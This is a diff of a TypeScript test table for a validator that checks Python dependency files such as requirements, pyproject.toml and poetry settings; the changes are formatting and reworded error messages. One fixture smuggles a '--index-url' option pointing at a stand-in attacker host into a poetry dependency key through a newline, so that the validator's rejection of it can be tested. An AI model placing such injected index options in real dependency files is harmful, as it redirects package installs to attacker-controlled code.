@@ -16,8 +16,10 @@ const PATH = 'vision/api';
 const under = (f: Record<string, string | Buffer>) => Object.fromEntries(Object.entries(f).map(([k, v]) => [`deps/${k}`, v]));
 const EVIL = '--index-url=https://evil.example.invalid/simple';
 
-function fileRow(name: string, files: Record<string, string | Buffer>, deps: Dependencies, got: string, expected: string,
-  extra: Record<string, unknown> = {}): Row {
+function fileRow(
+  name: string, files: Record<string, string | Buffer>, deps: Dependencies, got: string, expected: string,
+  extra: Record<string, unknown> = {},
+): Row {
   return { name: `dependency files: ${name}`, files: under(files), build: svc({ dependencies: deps, ...extra }), path: PATH, got, expected };
 }
 const reqs = (options: Record<string, string[]>) => Dependencies.fromRequirementsFiles(Object.fromEntries(
@@ -104,7 +106,7 @@ export const rows: Row[] = [
     'got "num\\u200bpy==2.1.3"', 'a pep 508 requirement such as'),
   fileRow('a utf-16 pyproject.toml', { 'pyproject.toml': Buffer.from('\ufeff[project]\nname = "demo"\n', 'utf16le') }, pyproject(),
     'deps/pyproject.toml:1 is in utf-16, which toml readers refuse: got "utf-16le"', 'a toml file in utf-8'),
-  // ------------------------------------------------------------ names, versions and keys of pyproject.toml and locks
+  // ------------------------------------------- names, versions and keys of pyproject.toml and locks
   fileRow('a newline inside a poetry dependency key',
     { 'pyproject.toml': `[tool.poetry]\nname = "demo"\n\n[tool.poetry.dependencies]\npython = "^3.10"\n"rich\\n${EVIL}" = "13.9.4"\n` }, pyproject(),
     '[tool.poetry.dependencies] has a key that is not a package name: got "rich\\n--index-url', 'a pep 508 package name'),
@@ -203,7 +205,7 @@ export const rows: Row[] = [
     expected: 'version = "..." in [tool.poetry] (poetry-core builds the wheel from it)',
   },
   {
-    name: 'dependency files: a poetry package folder the service does not copy',
+    name: 'dependency files: a poetry package folder the project does not have',
     files: {
       'pyproject.toml': '[tool.poetry]\nname = "demo"\nversion = "0.1.0"\npackages = [{ include = "app", from = "src" }]\n\n'
         + '[build-system]\nrequires = ["poetry-core==1.9.1"]\nbuild-backend = "poetry.core.masonry.api"\n',
@@ -211,10 +213,10 @@ export const rows: Row[] = [
     },
     build: projectSvc({}),
     path: PATH,
-    got: 'installProject: [tool.poetry] packages includes a folder the service does not copy: got "src/app"',
-    expected: 'a path of sources (copied: app)',
+    got: 'installProject: [tool.poetry] packages includes a folder the project does not have: got "src/app"',
+    expected: 'a package folder (or module) of the project, from its root or the "from" folder',
   },
-  // ------------------------------------------------------------ the CUDA runtime of a GPU service without torch
+  // ---------------------------------------------------- the CUDA runtime of a GPU service without torch
   {
     name: 'dependency files: a typed jax[cuda12-local] brings no CUDA runtime',
     build: cudaSvc({ requirements: { ml: ['jax[cuda12-local]==0.7.2'] } }),
